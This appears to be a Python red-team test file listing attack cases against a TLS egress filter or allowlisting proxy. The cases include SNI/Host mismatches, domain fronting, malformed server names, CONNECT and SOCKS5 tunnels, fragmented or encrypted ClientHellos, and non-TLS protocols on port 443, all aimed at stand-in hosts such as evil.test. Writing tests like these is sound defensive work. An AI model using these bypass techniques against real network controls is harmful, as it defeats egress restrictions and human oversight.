"""TLS: server names that say one thing where the address says another, names that are read in two ways, other protocols on its port."""

from hatchway.redteam.attacks.attack import INDEX, SOURCE, Attack, table

_PARTLY = (INDEX, SOURCE)
_GET = "b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: {}\\r\\n\\r\\n'"
_INDEX, _OTHER, _EVIL = _GET.format("index.test"), _GET.format("other.test"), _GET.format("evil.test")
_NAMES = {
    "empty": "sni(b'')",
    "nul": "sni(b'index.test\\0.evil.test')",
    "long": "sni(b'a' * 300)",
    "not-ascii": "sni(b'ind\\xc3\\xa9x.test')",
    "address": "sni(b'203.0.113.9')",
    "space": "sni(b'index.test ')",
    "two-names": "sni(b'index.test', b'evil.test')",
    "two-names-reversed": "sni(b'evil.test', b'index.test')",
    "two-extensions": "sni(b'index.test') + sni(b'evil.test')",
    "other-kind": "sni(b'index.test', kind=7)",
    "two-dots": "sni(b'index..test')",
    "wildcard": "sni(b'*.test')",
    "none": "b''",
}

ATTACKS: tuple[Attack, ...] = (
    *table("T01", "No server name", {
        "at-an-allowed-site": f"tls(addr('index.test'), {_GET.format('other.test')}, None)",
        "at-an-address": f"tls('203.0.113.9', {_INDEX}, None)",
        "other-port": f"tls('203.0.113.9', {_INDEX}, None, port=8443)",
        "old-tls": f"tls(addr('index.test'), {_OTHER}, None, how=context(most=ssl.TLSVersion.TLSv1_2))",
    }),
    *table("T02", "Another site on an allowed site's address", {
        "name-and-host": f"site('index.test', {_OTHER}, sni='other.test')",
        "name-alone": f"site('index.test', {_INDEX}, sni='other.test')",
        "host-alone": f"site('index.test', {_OTHER})",
        "true-address": f"tls(facts['zone']['index.test'], {_OTHER}, 'other.test')",
        "old-tls": f"site('index.test', {_OTHER}, sni='other.test', how=context(most=ssl.TLSVersion.TLSv1_2))",
        "nobodys-name": f"site('index.test', {_EVIL}, sni='evil.test')",
        "marker-as-name": "site('index.test', b'x', sni=M + '.test')",
        "below-the-name": f"site('index.test', {_INDEX}, sni='a.index.test')",
        "above-the-name": f"site('index.test', {_INDEX}, sni='test')",
        "name-as-suffix": f"site('index.test', {_INDEX}, sni='index.test.evil.test')",
        "name-as-prefix": f"site('index.test', {_INDEX}, sni='xindex.test')",
        "another-allowed-one": f"site('index.test', {_GET.format('api.test')}, sni='api.test')",
        "files-at-index": f"site('index.test', {_GET.format('files.test')}, sni='files.test')",
    }),
    *table("T03", "An allowed server name at an attacker's address", {
        "address": f"tls('203.0.113.66', {_INDEX}, 'index.test')",
        "site": f"tls(facts['zone']['evil.test'], {_INDEX}, 'index.test')",
        "host-too": f"tls('198.51.100.7', {_EVIL}, 'index.test')",
        "wire-only": "tcp('203.0.113.66', 443, hello(sni(b'index.test'), M))",
    }),
    *table("T06", "A server name in other letters, or with a dot", {
        "other-case": f"site('index.test', {_OTHER}, sni='OTHER.TEST')",
        "other-dot": "tcp(addr('index.test'), 443, hello(sni(b'other.test.'), M))",
        "dot-then-other-host": f"tls(addr('index.test'), {_OTHER}, 'INDEX.TEST')",
        "two-dots-at-the-end": "tcp(addr('index.test'), 443, hello(sni(b'index.test..'), M))",
    }),
    *table("T05", "A proxy's CONNECT", {
        "to-an-address": "tcp('203.0.113.9', 8080, b'CONNECT ' + B + b'.evil.test:443 HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')",
        "at-an-allowed-site": "site('index.test', b'CONNECT ' + B + b'.test:443 HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n')",
        "allowed-then-another": "site('index.test', [b'CONNECT index.test:443 HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n', hello(sni(b'evil.test'), M)])",
        "in-clear": "tcp(addr('clear.test'), 80, b'CONNECT ' + B + b'.test:443 HTTP/1.1\\r\\nHost: clear.test\\r\\n\\r\\n')",
        "socks5": "tcp('203.0.113.9', 8080, b'\\5\\1\\0\\5\\1\\0\\3\\x0f' + B + b'\\1\\xbb')",
    }),
    *table("T07", "Server names that are read in two ways", {
        name: f"tcp(addr('index.test'), 443, hello({extensions}, M))" for name, extensions in _NAMES.items()
    }),
    *table("T08", "A ClientHello in pieces", {
        "one-octet-records": "tcp(addr('index.test'), 443, hello(sni(b'evil.test'), M, pieces=64))",
        "larger-than-allowed": "tcp(addr('index.test'), 443, hello(sni(b'index.test') + extension(21, bytes(40000)), M, pieces=16000))",
        "length-that-lies": "h = hello(sni(b'index.test'), M); tcp(addr('index.test'), 443, h[:6] + b'\\0\\0\\5' + h[9:])",
        "old-version": "h = hello(sni(b'index.test'), M); tcp(addr('index.test'), 443, h[:9] + b'\\3\\0' + h[11:])",
    }),
    *table("T10", "Encrypted ClientHello", {
        "outer-allowed": "tcp(addr('index.test'), 443, hello(sni(b'index.test') + extension(0xfe0d, b'\\0\\0\\1\\0\\1\\7\\0\\x20' + bytes(32) + b'\\0\\x40' + B * 4), M))",
        "outer-is-a-front": "tcp(addr('index.test'), 443, hello(sni(b'front.evil.test') + extension(0xfe0d, b'\\0\\0\\1\\0\\1\\7\\0\\x20' + bytes(32) + b'\\0\\x40' + B * 4), M))",
        "old-kind": "tcp(addr('index.test'), 443, hello(extension(0xffce, B * 4), M))",
    }),
    *table("T11", "A session that is resumed under another name", {
        "old-tls": "c = context(most=ssl.TLSVersion.TLSv1_2)\nwith socket.create_connection((addr('index.test'), 443), timeout=20) as r, c.wrap_socket(r, server_hostname='index.test') as s:\n    kept = s.session\n"
                   f"tried.append('resume')\nwith socket.create_connection((addr('index.test'), 443), timeout=20) as r, c.wrap_socket(r, server_hostname='other.test', session=kept) as s:\n    s.sendall({_OTHER}); _answer(s)",
        "new-tls": "c = context()\nwith socket.create_connection((addr('index.test'), 443), timeout=20) as r, c.wrap_socket(r, server_hostname='index.test') as s:\n    s.settimeout(3); s.sendall(b'GET /simple/ HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n'); _answer(s); kept = s.session\n"
                   f"tried.append('resume')\nwith socket.create_connection((addr('index.test'), 443), timeout=20) as r, c.wrap_socket(r, server_hostname='other.test', session=kept) as s:\n    s.sendall({_OTHER}); _answer(s)",
    }, _PARTLY),
    *table("T12", "Negotiating anew", {
        "then-another-host": f"anew(addr('index.test'), 'index.test', {_OTHER})",
        "then-another-path": "anew(addr('index.test'), 'index.test', b'GET /upload/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n')",
    }, _PARTLY),
    *table("T13", "Early data", {
        "extension": "tcp(addr('index.test'), 443, hello(sni(b'index.test') + extension(42, b''), M) + b'\\x17\\3\\3\\0\\x0f' + B)",
        "field": "site('index.test', b'GET /simple/../' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\nEarly-Data: 1\\r\\n\\r\\n')",
    }),
    *table("T15", "Another protocol on the port of TLS", {
        "ssh": "tcp(addr('index.test'), 443, b'SSH-2.0-' + B + b'\\r\\n')",
        "openvpn": "tcp(addr('index.test'), 443, b'\\0\\x0e\\x38' + B)",
        "octets": "tcp(addr('index.test'), 443, B * 20)",
        "http-in-clear": f"tcp(addr('index.test'), 443, {_INDEX})",
        "old-hello": "tcp(addr('index.test'), 443, b'\\x80\\x2e\\1\\3\\1' + B * 3)",
        "application-data": "tcp(addr('index.test'), 443, b'\\x17\\3\\3\\0\\x0f' + B)",
        "alert-first": "tcp(addr('index.test'), 443, b'\\x15\\3\\3\\0\\2\\1\\0' + B)",
        "proxy-protocol": "tcp(addr('index.test'), 443, b'PROXY TCP4 192.0.2.1 203.0.113.9 1 443\\r\\n' + B)",
        "on-the-clear-port": "tcp(addr('clear.test'), 80, b'SSH-2.0-' + B + b'\\r\\n')",
    }),
    *table("T16", "A clear beginning, then whatever", {
        "smtp": "tcp(addr('index.test'), 25, b'EHLO ' + B + b'\\r\\nSTARTTLS\\r\\n')",
        "database": "tcp(addr('index.test'), 5432, b'\\0\\0\\0\\x08\\4\\xd2\\x16\\x2f' + B)",
        "mysql": "tcp(addr('index.test'), 3306, b'\\x20\\0\\0\\1' + B)",
        "database-on-443": "tcp(addr('index.test'), 443, b'\\0\\0\\0\\x08\\4\\xd2\\x16\\x2f' + B)",
    }),
    *table("T17", "TLS within TLS", {
        "hello": "site('index.test', hello(sni(b'evil.test'), M))",
        "octets": "site('index.test', B * 20)",
        "after-a-request": "site('index.test', [b'GET /simple/ HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n', hello(sni(b'evil.test'), M)])",
    }),
    *table("T22", "Waiting for a server that speaks first", {
        name: f"silent(addr('{to}'), {port}, B * 4)" for name, to, port in (("at-tls", "index.test", 443), ("in-clear", "clear.test", 80), ("mail", "index.test", 25), ("shell", "203.0.113.9", 22))
    }),
    *table("T20", "Names that are made up, to have leaves made", {"twenty": "for number in range(20):\n    try: site('index.test', b'x', sni=f'{number}.{M}.test')\n    except OSError: pass"}),
    *table("T23", "Ends before the end", {
        "body": "site('index.test', b'POST /simple/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\nContent-Length: 100\\r\\n\\r\\nabc')",
        "chunk": "site('api.test', b'POST /simple/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n9\\r\\nabc')",
    }),
)  # fmt: skip
